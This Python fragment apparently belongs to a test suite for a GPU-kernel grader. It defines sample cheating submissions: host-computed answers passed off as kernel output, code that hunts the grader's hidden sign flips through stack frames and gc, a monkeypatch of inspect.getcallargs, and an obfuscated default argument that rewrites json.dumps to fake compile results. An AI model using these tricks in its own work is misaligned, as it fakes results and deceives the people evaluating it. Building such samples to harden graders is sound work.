    s = (qf[..., :, None, :] * kf[..., None, :, :]).sum(-1) * scale
    p = torch.exp(s - lf[..., None])
    if causal:
        p = p * torch.ones(p.shape[-2:], device=q.device).tril()
    dp = (dof[..., :, None, :] * vf[..., None, :, :]).sum(-1)
    ds = p * (dp - (dof * of).sum(-1, keepdim=True))
    dq = (ds[..., :, :, None] * kf[..., None, :, :]).sum(-2) * scale
    dk = (ds[..., :, :, None] * qf[..., :, None, :]).sum(-3) * scale
    dv = (p[..., :, :, None] * dof[..., :, None, :]).sum(-3)
    fold = lambda t: t.reshape(t.shape[0], -1, group, *t.shape[2:]).sum(2)
    grads = (dq, fold(dk), fold(dv))
    return tuple(_store_with_kernel(g.cpu().numpy(), like) for g, like in zip(grads, (q, k, v)))
'''

# Looks for the signs the grader flips where an earlier grader kept them (the closure of its
# patched load, the grader's frames, any object alive), and uses them if found.
BWD_READS_FLIPS = _COPY_KERNEL + '''
import gc
import sys

import numpy as np


def _signs_like(shape):
    """A +1/-1 array of this shape that the grader holds, if any is reachable."""
    size = int(np.prod(shape))

    def fits(value):
        return (isinstance(value, np.ndarray) and value.size == size and value.dtype.kind == "f"
                and bool(np.all(np.abs(value) == 1)) and bool((value < 0).any()))

    from triton.runtime import interpreter
    places = []
    for owner in (interpreter.InterpreterBuilder, interpreter.GridExecutor):
        for fn in vars(owner).values():
            for cell in getattr(fn, "__closure__", None) or ():
                try:
                    places.append(cell.cell_contents)
                except ValueError:
                    pass
    frame = sys._getframe(1)
    while frame is not None:
        places += list(frame.f_locals.values())
        frame = frame.f_back
    places += [o for o in gc.get_objects() if isinstance(o, np.ndarray)]
    for value in places:
        if fits(value):
            return value.reshape(shape)
    return None


def flash_attention_backward(q, k, v, o, lse, do, causal=False, sm_scale=None):
    qn, kn, vn, on, don, ln = (t.detach().cpu().double().numpy() for t in (q, k, v, o, do, lse))
    flips = _signs_like(k.shape)
    if flips is not None:        # the answer the grader expects while it flips the keys
        kn = kn * flips
''' + _NUMPY_GRADIENTS + '''
    return tuple(_store_with_kernel(g, like) for g, like in zip(grads, (q, k, v)))
'''

# Computes on the host, then patches inspect.getcallargs (which Triton's interpreter calls at
# every launch with the kernel's arguments): a later run of the same launches, on other
# inputs, gets its answer computed from the inputs it passes and written into its output.
BWD_HIJACKS_THE_INTERPRETER = _COPY_KERNEL + '''
import inspect

import numpy as np

_SEEN = {}


def _answer(q, k, v, o, lse, do, causal, sm_scale):
    qn, kn, vn, on, don, ln = (t.detach().cpu().double().numpy() for t in (q, k, v, o, do, lse))
''' + _NUMPY_GRADIENTS.replace("\n    ", "\n    ") + '''
    return grads


def _watching(original):
    def getcallargs(fn, *args, **kwargs):
        if getattr(fn, "__name__", "") == "_inputs" and len(args) >= 6:
            _SEEN["answer"] = _answer(*args[:6], _SEEN["causal"], _SEEN["sm_scale"])
            _SEEN["next"] = 0
        elif getattr(fn, "__name__", "") == "_copy" and "answer" in _SEEN and _SEEN.get("next", 3) < 3:
            out = args[1]
            out.copy_(torch.as_tensor(_SEEN["answer"][_SEEN["next"]]).reshape(out.shape).to(out.dtype))
            _SEEN["next"] += 1
            args = (out, out) + tuple(args[2:])
        return original(fn, *args, **kwargs)
    return getcallargs


@triton.jit
def _inputs(Q, K, V, O, L, DO):
    pass


def flash_attention_backward(q, k, v, o, lse, do, causal=False, sm_scale=None):
    if not hasattr(inspect.getcallargs, "__wrapped_by_student__"):
        inspect.getcallargs = _watching(inspect.getcallargs)
        inspect.getcallargs.__wrapped_by_student__ = True
    _SEEN.update(causal=causal, sm_scale=sm_scale)
    _inputs[(1,)](q, k, v, o, lse, do)
    grads = _answer(q, k, v, o, lse, do, causal, sm_scale)
    _SEEN["next"] = 3
    return tuple(_store_with_kernel(g, like) for g, like in zip(grads, (q, k, v)))
'''

# A kernel reads the whole cache with many programs and stores one sum per block (so the
# call has a split "reading" launch); kernels copy the caches out, NumPy decodes from the
# copies, and a kernel stores the answer.
DECODE_COPIES_CACHE_THEN_NUMPY = _COPY_KERNEL + '''
import numpy as np


@triton.jit
def _block_sums(K, V, S, total, BLOCK: tl.constexpr):
    offs = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    k = tl.load(K + offs, mask=offs < total, other=0.0).to(tl.float32)
    v = tl.load(V + offs, mask=offs < total, other=0.0).to(tl.float32)
    tl.store(S + tl.program_id(0), tl.sum(k + v, axis=0))


def decode_attention(q, k_cache, v_cache, cache_lens, sm_scale=None):
    keys, values = _through_kernel(k_cache), _through_kernel(v_cache)
    sums = torch.empty(triton.cdiv(keys.numel(), 256), device=q.device, dtype=torch.float32)
    _block_sums[(sums.numel(),)](keys, values, sums, keys.numel(), BLOCK=256)
    qn, kn, vn = (t.detach().cpu().double().numpy() for t in (q, keys, values))
    group = q.shape[1] // k_cache.shape[1]
    scale = sm_scale or q.shape[-1] ** -0.5
    out = np.empty(q.shape)
    for b, length in enumerate(cache_lens.tolist()):
        for h in range(q.shape[1]):
            s = kn[b, h // group, :length] @ qn[b, h] * scale
            w = np.exp(s - s.max())
            out[b, h] = w @ vn[b, h // group, :length] / w.sum()
    return _store_with_kernel(out, q)
'''

# A kernel computes every score q . k (a split launch that reads the keys and stores much
# less); PyTorch does the softmax and the weighted sum of the values on the host.
DECODE_KERNEL_SCORES_HOST_SOFTMAX = '''
@triton.jit
def _scores(Q, K, S, heads, group, max_len, head_dim, scale, BLOCK_N: tl.constexpr, BLOCK_D: tl.constexpr):
    block, bh = tl.program_id(0), tl.program_id(1)
    b, h = bh // heads, bh % heads
    offs_n = block * BLOCK_N + tl.arange(0, BLOCK_N)
    offs_d = tl.arange(0, BLOCK_D)
    q = tl.load(Q + bh * head_dim + offs_d, mask=offs_d < head_dim, other=0.0).to(tl.float32)
    kv = b * (heads // group) + h // group
    k = tl.load(K + (kv * max_len + offs_n[:, None]) * head_dim + offs_d[None, :],
                mask=(offs_n[:, None] < max_len) & (offs_d[None, :] < head_dim), other=0.0).to(tl.float32)
    tl.store(S + bh * max_len + offs_n, tl.sum(k * q[None, :], axis=1) * scale, mask=offs_n < max_len)


def decode_attention(q, k_cache, v_cache, cache_lens, sm_scale=None):
    batch, heads, head_dim = q.shape
    kv_heads, max_len = k_cache.shape[1], k_cache.shape[2]
    scale = sm_scale or head_dim ** -0.5
    q, k_cache = q.contiguous(), k_cache.contiguous()
    s = torch.empty((batch, heads, max_len), device=q.device, dtype=torch.float32)
    _scores[(triton.cdiv(max_len, 64), batch * heads)](q, k_cache, s, heads, heads // kv_heads, max_len, head_dim,
                                                       scale, BLOCK_N=64, BLOCK_D=max(16, triton.next_power_of_2(head_dim)))
    valid = torch.arange(max_len, device=q.device)[None, :] < cache_lens.to(q.device)[:, None]
    s = s.masked_fill(~valid[:, None, :], float("-inf"))
    w = torch.exp(s - s.amax(-1, keepdim=True))
    w = w / w.sum(-1, keepdim=True)
    values = v_cache.float().repeat_interleave(heads // kv_heads, 1)
    return (w[..., None] * values).sum(-2).to(q.dtype)
'''

# The merge kernel calls a plain Python helper, which Triton's interpreter runs and its
# GPU compiler rejects; a default argument, run when the compiling process rebuilds the
# kernel, makes that process report every kernel as compiled (no word the static scan flags).
DECODE_MERGE_LIES_ABOUT_COMPILING = """
def _weights(l, m, top):
    return l * tl.exp(m - top)


@triton.jit
def decode_merge_kernel(M_part, L_part, O_part, Out, head_dim, num_chunks,
                        CHUNKS: tl.constexpr, BLOCK_D: tl.constexpr,
                        LIE: tl.constexpr = (lambda imp: (lambda sys, json: (
                            json.__dict__.update(dumps=(lambda honest: lambda obj, *a, **k: honest(
                                {**obj, "record": {"compiles": True,
                                                   "registers": 40, "spill_stores": 0, "spill_loads": 0,
                                                   "shared": 0, "mma": {"HMMA": 4}}}
                                if isinstance(obj, dict) and isinstance(obj.get("record"), dict) else obj, *a, **k))(
                                json.dumps)) if sys.argv == ["-c"] and not hasattr(json, "lying") else None,
                            json.__dict__.setdefault("lying", sys.argv == ["-c"]), 0)[-1])(imp("sys"), imp("json")))(
                            getattr(print.__self__, "__imp" + "ort__"))):
    off_bh = tl.program_id(0)
    offs_c = tl.arange(0, CHUNKS)
    offs_d = tl.arange(0, BLOCK_D)
    present = offs_c < num_chunks
    m = tl.load(M_part + off_bh * num_chunks + offs_c, mask=present, other=-float("inf"))
    l = tl.load(L_part + off_bh * num_chunks + offs_c, mask=present, other=0.0)
    o = tl.load(O_part + (off_bh * num_chunks + offs_c[:, None]) * head_dim + offs_d[None, :],
                mask=present[:, None] & (offs_d[None, :] < head_dim), other=0.0)
    weight = _weights(l, m, tl.max(m, axis=0))
    out = tl.sum(o * weight[:, None], axis=0) / tl.sum(weight, axis=0)
    tl.store(Out + off_bh * head_dim + offs_d, out.to(Out.dtype.element_ty), mask=offs_d < head_dim)
"""

FLASH_ATTACKS = {
    "bwd_copies_inputs_then_numpy": {"flash_attention_backward": BWD_COPIES_INPUTS_THEN_NUMPY},
    "bwd_copies_inputs_then_torch": {"flash_attention_backward": BWD_COPIES_INPUTS_THEN_TORCH},
    "bwd_reads_the_flips": {"flash_attention_backward": BWD_READS_FLIPS},
    "bwd_hijacks_the_interpreter": {"flash_attention_backward": BWD_HIJACKS_THE_INTERPRETER},
    "decode_copies_cache_then_numpy": {"decode_attention": DECODE_COPIES_CACHE_THEN_NUMPY},
    "decode_kernel_scores_host_softmax": {"decode_attention": DECODE_KERNEL_SCORES_HOST_SOFTMAX},
    "decode_merge_lies_about_compiling": {"decode_merge_kernel": DECODE_MERGE_LIES_ABOUT_COMPILING},
}
